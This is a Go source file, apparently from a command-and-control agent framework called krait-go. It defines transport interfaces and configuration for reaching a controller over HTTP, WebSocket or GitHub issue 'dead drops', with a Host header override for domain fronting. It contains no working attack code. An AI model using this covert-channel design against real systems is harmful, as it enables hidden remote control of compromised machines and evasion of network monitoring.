// SPDX-FileCopyrightText: 2026 The krait-go Authors
//
// SPDX-License-Identifier: GPL-3.0-or-later

// Package profile abstracts the agent's communication path to its controller.
//
// A Profile is one concrete transport: plain HTTP request-response, a
// persistent WebSocket connection or dead drops on a GitHub repository. All
// of them exchange opaque payload blobs; the encryption happens a layer
// above, see the channel package.
//
// A Manager owns exactly one active Profile, selected by a configuration
// string at startup and fixed afterwards.
package profile

import (
	"errors"
	"time"
)

// ErrNoResponse is the only error crossing the Profile boundary. Every
// transport failure mode, timeout, refused connection or malformed reply
// collapses to it; the caller reacts by waiting and trying again.
var ErrNoResponse = errors.New("profile: no usable response")

// Profile is the uniform contract of all transport variants.
type Profile interface {
	// Initialize establishes the transport's session. A false return marks
	// the Profile unusable and must abort the agent's startup.
	Initialize() bool

	// Send submits one payload blob and blocks until a correlated reply
	// arrives or the transport gives up. Failures return ErrNoResponse.
	Send(payload string) (string, error)

	// IsConnected reports the transport's liveness.
	IsConnected() bool

	// Name returns the variant's configuration name.
	Name() string
}

// Config is the immutable transport configuration, loaded once at startup.
type Config struct {
	// Host and Port address the controller's callback endpoint.
	Host string
	Port int

	// TLS switches http to https respectively ws to wss.
	TLS bool

	// UserAgent is sent with every HTTP based request.
	UserAgent string

	// HostHeader optionally overrides the Host header, e.g., for domain
	// fronting setups.
	HostHeader string

	// Headers are additional HTTP headers sent with every request.
	Headers map[string]string

	HTTP      HTTPConfig
	WebSocket WebSocketConfig
	GitHub    GitHubConfig
}

// HTTPConfig configures the request-response variant.
type HTTPConfig struct {
	// Method is GET or POST; GET carries the payload in a query parameter,
	// POST in the request body.
	Method string

	// URI is the request path on the controller.
	URI string

	// QueryParameter names the GET parameter carrying the payload.
	QueryParameter string
}

// WebSocketConfig configures the persistent-connection variant.
type WebSocketConfig struct {
	// Path of the WebSocket endpoint on the controller.
	Path string
}

// GitHubConfig configures the relay-polling variant.
type GitHubConfig struct {
	// Token is the bearer token for the GitHub API.
	Token string

	// Owner and Repository address the dead drop repository.
	Owner      string
	Repository string

	// Branch is the repository's default branch, base of ephemeral branches.
	Branch string

	// ClientIssue receives the agent's messages, ServerIssue is polled for
	// the controller's replies.
	ClientIssue int
	ServerIssue int

	// RequestFile and ResponseFile are the file paths used on ephemeral
	// branches for ongoing traffic.
	RequestFile  string
	ResponseFile string

	// PollInterval and PollAttempts bound the reply polling.
	PollInterval time.Duration
	PollAttempts int

	// APIBase is the GitHub API endpoint, overridable for tests.
	APIBase string
}
